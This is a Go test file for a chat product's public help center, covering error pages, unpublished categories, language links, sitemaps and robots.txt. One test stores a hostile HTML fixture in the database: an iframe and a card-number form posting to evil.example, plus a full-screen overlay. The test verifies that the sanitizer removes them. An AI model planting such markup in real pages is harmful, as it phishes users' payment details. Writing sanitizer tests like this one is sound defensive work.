package httpapi_test

import (
	"context"
	"database/sql"
	"fmt"
	"io"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/sodam-chat/sodam/internal/chat"
)

// TestHelpCenterRefusals: a person who follows a broken link or edits the
// address gets a page to read, not the API's JSON — an unknown site too,
// in the browser's language.
func TestHelpCenterRefusals(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	seedFAQ(t, e)
	anon := e.anonymous()
	// pageIn reads path with the browser's Accept-Language (none: "").
	pageIn := func(path, lang string, want int, says ...string) {
		t.Helper()
		status, data := anon.do("GET", path, "", "Accept-Language", lang)
		if status != want || !strings.Contains(string(data), "<html") {
			t.Fatalf("GET %s: %d %s", path, status, data)
		}
		for _, s := range says {
			if !strings.Contains(string(data), s) {
				t.Errorf("GET %s lacks %q", path, s)
			}
		}
	}
	page := func(path string, want int, says ...string) {
		t.Helper()
		pageIn(path, "", want, says...)
	}
	for _, path := range []string{"/help/shop/articles/abc", "/help/shop/articles/0", "/help/shop/categories/1x"} {
		page(path, 404, "<title>페이지를 찾을 수 없습니다 · ")
	}
	long := strings.Repeat("환불", 101)
	page("/help/shop/search?q="+url.QueryEscape(long), 400, "검색어는 200자까지", `value="`+long+`"`)
	page("/help/shop/search?lang=en&q="+url.QueryEscape(long), 400, "at most 200 characters")
	// A site that does not exist: no workspace's name, search or chat.
	for _, path := range []string{"/help/nosuchshop", "/help/nosuchshop/articles/1", "/help/nosuchshop/categories/1", "/help/nosuchshop/search?q=x"} {
		pageIn(path, "ko-KR,ko;q=0.9", 404, `<html lang="ko">`, "<title>고객센터를 찾을 수 없습니다 · 고객센터</title>", "이 주소에는 고객센터가 없어요")
		pageIn(path, "en-US,en;q=0.9", 404, `<html lang="en">`, "<title>Help Center not found · Help Center</title>", "There is no Help Center at this address")
		if _, data := anon.do("GET", path, ""); strings.Contains(string(data), "nosuchshop") || strings.Contains(string(data), "widget") {
			t.Errorf("GET %s names the site or offers its chat: %s", path, data)
		}
	}
	pageIn("/help/nosuchshop?lang=en", "ko", 404, "There is no Help Center at this address")
}

// TestHelpCenterShowsOnlyPublishedCategories: a category whose articles
// are all drafts (a launch not yet announced) is named by no public page
// or answer — not its help center page, not the widget's FAQ home — and a
// category's page shows its published articles whatever the page's
// language; the sitemap lists a category in the languages its articles
// are written in.
func TestHelpCenterShowsOnlyPublishedCategories(t *testing.T) {
	t.Parallel()
	for _, kind := range stores {
		t.Run(kind, func(t *testing.T) { helpCenterShowsOnlyPublishedCategories(t, newEnvOn(t, kind, nil)) })
	}
}

func helpCenterShowsOnlyPublishedCategories(t *testing.T, e *env) {
	seedFAQ(t, e)
	m := e.login("manager")
	var launch, overseas chat.FAQCategory
	m.json("POST", e.shopPath()+"/faq/categories", `{"name":"겨울 신상품 출시 준비","name_en":"Winter launch"}`, 201, &launch)
	m.json("POST", e.shopPath()+"/faq/articles", fmt.Sprintf(`{"category_id":%d,"title":"출시 일정 안내","body_html":"<p>12월 20일 공개 예정</p>","published":false}`, launch.ID), 201, nil)
	m.json("POST", e.shopPath()+"/faq/categories", `{"name":"해외 배송","name_en":"Overseas shipping"}`, 201, &overseas)
	m.json("POST", e.shopPath()+"/faq/articles", fmt.Sprintf(`{"category_id":%d,"title":"Do you ship abroad?","body_html":"<p>Yes, to 30 countries.</p>","lang":"en","published":true}`, overseas.ID), 201, nil)
	anon := e.anonymous()

	for _, path := range []string{fmt.Sprintf("/help/shop/categories/%d", launch.ID), fmt.Sprintf("/help/shop/categories/%d?lang=en", launch.ID)} {
		status, data := anon.do("GET", path, "")
		if status != 404 || strings.Contains(string(data), "출시 준비") || strings.Contains(string(data), "Winter launch") {
			t.Errorf("GET %s: %d, names the unpublished category: %v", path, status, strings.Contains(string(data), "출시"))
		}
	}
	for _, lang := range []string{"ko", "en"} {
		status, data := anon.do("GET", "/api/v1/widget/faq?site_id=shop&lang="+lang, "")
		if status != 200 || strings.Contains(string(data), "출시 준비") || strings.Contains(string(data), "Winter launch") {
			t.Errorf("widget FAQ home (%s) %d names the unpublished category: %s", lang, status, data)
		}
	}
	// The overseas category has only an English article: its Korean page
	// shows it, not an empty list.
	for _, lang := range []string{"ko", "en"} {
		status, data := anon.do("GET", fmt.Sprintf("/help/shop/categories/%d?lang=%s", overseas.ID, lang), "")
		if status != 200 || !strings.Contains(string(data), "Do you ship abroad?") {
			t.Errorf("overseas category in %s: %d, shows the article: %v", lang, status, strings.Contains(string(data), "Do you ship abroad?"))
		}
	}
	_, sitemap := anon.do("GET", "/help/shop/sitemap.xml", "")
	if !strings.Contains(string(sitemap), fmt.Sprintf("/help/shop/categories/%d?lang=en</loc>", overseas.ID)) ||
		strings.Contains(string(sitemap), fmt.Sprintf("/help/shop/categories/%d?lang=ko</loc>", overseas.ID)) ||
		strings.Contains(string(sitemap), fmt.Sprintf("/categories/%d?", launch.ID)) {
		t.Errorf("sitemap %s", sitemap)
	}
}

// TestWidgetArticleSanitizedWhenRead: a body stored before the policy
// tightened (written here straight into the database) reaches the
// widget's FAQ panel, which puts it in the page as HTML, as checked as it
// reaches the help center: sanitized again when read.
func TestWidgetArticleSanitizedWhenRead(t *testing.T) {
	t.Parallel()
	e := newEnv(t) // the body is written with SQLite's own client
	refund, _ := seedFAQ(t, e)
	db, err := sql.Open("sqlite", "file:"+e.dbPath+"?_pragma=busy_timeout(10000)")
	must(t, err)
	defer db.Close()
	old := `<p>환불은 영업일 3일 안에 됩니다.</p><iframe src="https://evil.example/"></iframe><form action="https://evil.example/"><input name="card"></form><p style="position:fixed;inset:0">카드 번호를 다시 입력하세요</p>`
	_, err = db.Exec(`UPDATE faq_articles SET body_html = ? WHERE id = ?`, old, refund.ID)
	must(t, err)
	var got struct {
		BodyHTML string `json:"body_html"`
	}
	e.anonymous().json("GET", fmt.Sprintf("/api/v1/widget/faq/articles/%d?site_id=shop", refund.ID), "", 200, &got)
	if got.BodyHTML != "<p>환불은 영업일 3일 안에 됩니다.</p><p>카드 번호를 다시 입력하세요</p>" {
		t.Errorf("widget article body %q", got.BodyHTML)
	}
	_, page := e.anonymous().do("GET", fmt.Sprintf("/help/shop/articles/%d", refund.ID), "")
	if strings.Contains(string(page), "iframe") || strings.Contains(string(page), "position:fixed") {
		t.Errorf("help center page %s", page)
	}
}

// TestHelpCenterLanguageLinksKeepTheSearch: a visitor who searched 환불 and
// switches to English sees the same search in English. The links were a
// bare ?lang=, which dropped the query: an empty search page.
func TestHelpCenterLanguageLinksKeepTheSearch(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	seedFAQ(t, e)
	anon := e.anonymous()
	status, data := anon.do("GET", "/help/shop/search?lang=ko&q="+url.QueryEscape("환불 언제 돼요"), "")
	if status != 200 {
		t.Fatalf("search: %d %s", status, data)
	}
	q := strings.ReplaceAll(url.QueryEscape("환불 언제 돼요"), "+", "%20")
	for _, want := range []string{`href="?lang=en&amp;q=` + q + `" hreflang="en"`, `href="?lang=ko&amp;q=` + q + `" hreflang="ko"`} {
		if !strings.Contains(string(data), want) {
			t.Errorf("the search page lacks %s", want)
		}
	}
	// Elsewhere the links are the page in the other language, as before.
	if _, data := anon.do("GET", "/help/shop?lang=ko", ""); !strings.Contains(string(data), `href="?lang=en" hreflang="en"`) {
		t.Errorf("the home page's English link: %s", data)
	}
	// An article is in its one language: English on a Korean article is
	// the English help center (it was the same Korean page again).
	var found struct{ Articles []struct{ ID int64 } }
	e.login("manager").json("GET", e.shopPath()+"/faq/search?lang=ko&q="+url.QueryEscape("환불"), "", 200, &found)
	if len(found.Articles) == 0 {
		t.Fatalf("no Korean article: %+v", found)
	}
	_, data = anon.do("GET", fmt.Sprintf("/help/shop/articles/%d?lang=en", found.Articles[0].ID), "")
	if !strings.Contains(string(data), `href="/help/shop?lang=en" hreflang="en"`) || !strings.Contains(string(data), `href="?lang=ko" hreflang="ko" lang="ko" aria-current="true"`) {
		t.Errorf("a Korean article's language links: %s", data)
	}
}

// TestHelpCenterEmptySearch: the search box sent empty is a search page,
// titled so; it was titled "‘’ 검색 결과" (results for nothing).
func TestHelpCenterEmptySearch(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	seedFAQ(t, e)
	anon := e.anonymous()
	for _, tt := range []struct{ path, want string }{
		{"/help/shop/search?lang=ko&q=", "<h1>검색</h1>"},
		{"/help/shop/search?lang=en&q=+", "<h1>Search</h1>"},
		{"/help/shop/search?lang=ko", "<h1>검색</h1>"},
	} {
		status, data := anon.do("GET", tt.path, "")
		if status != 200 || !strings.Contains(string(data), tt.want) || strings.Contains(string(data), "‘’") || strings.Contains(string(data), "“”") {
			t.Errorf("GET %s: %d, want %s in %s", tt.path, status, tt.want, data)
		}
	}
}

// TestSitemapLastModInWorkspaceZone: an article changed at 05:30 on the
// 8th in Seoul (20:30 on the 7th in UTC) was listed as changed on the
// 7th: the sitemap wrote <lastmod> in UTC. It is the workspace's time,
// with its offset, as every time Sodam shows — in Honolulu's once the
// workspace moves there.
func TestSitemapLastModInWorkspaceZone(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	e.clock.frozen = time.Date(2026, 12, 7, 20, 30, 0, 0, time.UTC)
	e.store.(interface{ SetClock(func() time.Time) }).SetClock(e.clock.Now)
	m := e.login("manager")
	var a chat.Article
	m.json("POST", e.shopPath()+"/faq/articles", `{"title":"연말 배송 마감 안내","body_html":"<p>12월 24일 오후 2시 주문까지 연내 도착합니다.</p>","published":true}`, 201, &a)
	lastmod := func(want string) {
		t.Helper()
		status, data := e.anonymous().do("GET", "/help/shop/sitemap.xml", "")
		entry := fmt.Sprintf("<loc>%s/help/shop/articles/%d?lang=ko</loc>\n    <lastmod>%s</lastmod>", e.srv.URL, a.ID, want)
		if status != 200 || !strings.Contains(string(data), entry) {
			t.Fatalf("sitemap %d, want %s:\n%s", status, entry, data)
		}
	}
	lastmod("2026-12-08T05:30:00+09:00")
	m.json("PATCH", e.shopPath(), `{"settings":{"business_hours":{"time_zone":"Pacific/Honolulu"}}}`, 200, nil)
	lastmod("2026-12-07T10:30:00-10:00")
}

// TestRobots: there was no /robots.txt, so search engines had no way to
// find the help centers' sitemaps and were told nothing about the
// console, the API or the widget's frame. It lets them read /help/ and
// nothing else, and names the sitemap of each help center with a
// published article ("other" has none; an archived one's is not public);
// it is plain text a cache may keep, and it spends the public FAQ budget.
func TestRobots(t *testing.T) {
	t.Parallel()
	e := newEnvWith(t, withLimits)
	e.clock.freeze()
	seedFAQ(t, e)
	closed := e.workspace("closed", "")
	must(t, e.store.CreateArticle(context.Background(), &chat.Article{WorkspaceID: closed.ID, Title: "영업 종료 안내",
		BodyHTML: "<p>12월 31일로 영업을 마칩니다.</p>", Published: true}, chat.Who{}))
	_, _, err := e.store.ArchiveWorkspace(context.Background(), closed.ID, true, chat.Who{})
	must(t, err)
	anon := e.anonymous()
	resp, err := anon.hc.Get(e.srv.URL + "/robots.txt")
	must(t, err)
	body, err := io.ReadAll(resp.Body)
	resp.Body.Close()
	must(t, err)
	want := "User-agent: *\nAllow: /help/\nAllow: /help-assets/\nDisallow: /\n\nSitemap: " + e.srv.URL + "/help/shop/sitemap.xml\n"
	if resp.StatusCode != 200 || string(body) != want {
		t.Fatalf("robots.txt %d:\n%s\nwant:\n%s", resp.StatusCode, body, want)
	}
	if ct, cc := resp.Header.Get("Content-Type"), resp.Header.Get("Cache-Control"); ct != "text/plain; charset=utf-8" || !strings.Contains(cc, "max-age=") {
		t.Fatalf("Content-Type %q, Cache-Control %q", ct, cc)
	}
	for range 300 {
		if resp = anon.raw("GET", "/robots.txt", ""); resp.StatusCode == 429 {
			break
		}
	}
	retryAfter(t, resp)
}
